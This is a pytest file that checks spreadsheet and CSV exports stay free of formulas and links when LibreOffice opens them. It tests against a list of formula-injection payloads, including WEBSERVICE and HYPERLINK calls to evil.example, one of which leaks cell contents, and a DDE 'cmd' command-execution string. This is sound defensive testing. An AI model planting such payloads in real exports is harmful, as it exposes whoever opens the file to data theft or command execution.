"""What leaves as a sheet, opened by LibreOffice: nothing in it has become a formula or a link."""

import csv
import io
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from datetime import UTC, datetime

import pytest

from operations.intake.checking import CheckedRow
from operations.intake.refusals import RowRefusal
from operations.intake.rejects import rejects_csv
from operations.intake.source import SourceRow, unescaped
from ui.sheets import ExportTable, SheetColumn, Taken, harmless, separated, starts_a_formula, workbook
from ui.text import speaking

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200f=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",
    '"=1+1"',
    "'=1+1",
    ";=1+1",
    ',=1+1,"',
    "{=1+1}",
    "=1+1\n=2+2",
    "%0A=1+1",
    "http://evil.example/",
]
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def office():
    """LibreOffice, or skip with a sentence; under CI its absence is a failure."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        if os.environ.get("CI") == "true":
            pytest.fail("LibreOffice is not installed: run .ci/tools.")
        pytest.skip("LibreOffice is not installed (Debian: libreoffice-calc-nogui); run .ci/tools.")
    return program


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """Convert several files at once: starting LibreOffice is what takes time."""
    program, folder = office(), tmp_path_factory.mktemp("sheets")

    def convert(files):
        for name, content in files.items():
            (folder / name).write_bytes(content)
        command = [program, f"-env:UserInstallation=file://{folder / 'profile'}", "--headless", "--norestore"]
        # Text tables are read as UTF-8 with commas, every cell as LibreOffice itself would take it.
        command += ["--infilter=CSV:44,34,76,1,,0,false,true,false,true"] if name.endswith(".csv") else []
        command += ["--convert-to", "fods", "--outdir", str(folder), *(str(folder / one) for one in files)]
        subprocess.run(command, check=True, capture_output=True, timeout=120)
        return [ET.parse(folder / one.replace(one[one.rindex(".") :], ".fods")) for one in files]  # noqa: S314 - made by LibreOffice.

    return convert


def table():
    rows = [{"said": text, "id": text, "n": number} for number, text in enumerate(HOSTILE)]
    columns = [SheetColumn(name="said", title="=1+1"), SheetColumn(name="id", title="+x", kind="id")]
    columns.append(SheetColumn(name="n", title="@n", kind="count"))
    return ExportTable(what="x", title="=1+1", columns=columns, rows=rows, filters=[("=1", "@x")])


def refused_rows():
    checked = [
        CheckedRow(
            row=SourceRow(number=number, cells={"=name": text, "other": text}, extra=(text,)),
            refusals=(
                RowRefusal(row=number, field="full_name", column="=name", value=text, expected="name"),
            ),
        )
        for number, text in enumerate(HOSTILE, start=2)
    ]
    return rejects_csv(["=name", "other"], checked)


def taken():
    return Taken(by="=1+1", at=datetime(2026, 11, 25, tzinfo=UTC), zone="Africa/Cairo", rounded=False)


@pytest.mark.parametrize("language", ["ar", "en"])
def test_no_cell_becomes_a_formula_or_a_link(opened, language):
    with speaking(language):
        book, text, refused = workbook(table(), taken()), separated(table(), taken()), refused_rows()
    sheets = opened({f"{language}.xlsx": book}) + opened(
        {f"{language}-table.csv": text, f"{language}-refused.csv": refused}
    )
    for sheet in sheets:
        cells = list(sheet.iter(f"{TABLE}table-cell"))
        assert len(cells) > len(HOSTILE)
        assert not [cell.get(f"{TABLE}formula") for cell in cells if cell.get(f"{TABLE}formula")]
        assert not list(sheet.iter(f"{TEXT}a"))
        assert not list(sheet.iter(f"{TABLE}cell-range-source"))


def test_the_test_would_see_a_formula(opened):
    (sheet,) = opened({"naive.csv": b'=1+1,x\r\n"=HYPERLINK(""http://evil.example"")",y\r\n'})
    formulas = [cell.get(f"{TABLE}formula") for cell in sheet.iter(f"{TABLE}table-cell")]
    assert sum(formula is not None for formula in formulas) == 2


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_made_harmless_comes_back_as_it_was(text):
    if starts_a_formula(text):
        assert harmless(text) == f"'{text}"
        assert unescaped(harmless(text)) == text


def test_no_cell_of_a_text_table_begins_like_a_formula():
    with speaking("en"):
        for content in (separated(table(), taken()), refused_rows()):
            for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
                assert not [cell for cell in row if starts_a_formula(cell)]
